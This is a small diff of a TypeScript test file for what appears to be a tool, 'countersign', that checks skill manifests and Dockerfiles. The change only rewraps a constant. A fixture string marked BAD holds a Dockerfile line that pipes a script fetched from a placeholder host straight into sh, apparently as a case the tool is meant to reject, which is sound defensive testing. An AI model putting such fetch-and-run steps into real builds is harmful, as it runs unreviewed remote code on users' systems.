@@ -9,7 +9,8 @@ const MAIN = join(import.meta.dirname, '../main.ts')
 const root = mkdtempSync(join(tmpdir(), 'countersign-exit-'))
 afterAll(() => rmSync(root, { recursive: true, force: true }))
 
-const SKILL = '---\nname: NAME\ndescription: Greets the person.\nlicense: MIT\nallowed-tools: Read\nrisk_tier: L0\n---\n\nHi.\n'
+const SKILL =
+  '---\nname: NAME\ndescription: Greets the person.\nlicense: MIT\nallowed-tools: Read\nrisk_tier: L0\n---\n\nHi.\n'
 const BAD = 'FROM node:24\nRUN curl -fsSL https://get.invalid/i.sh | sh\nUSER node\n'
 beforeAll(() => {
   const files: Record<string, string> = {
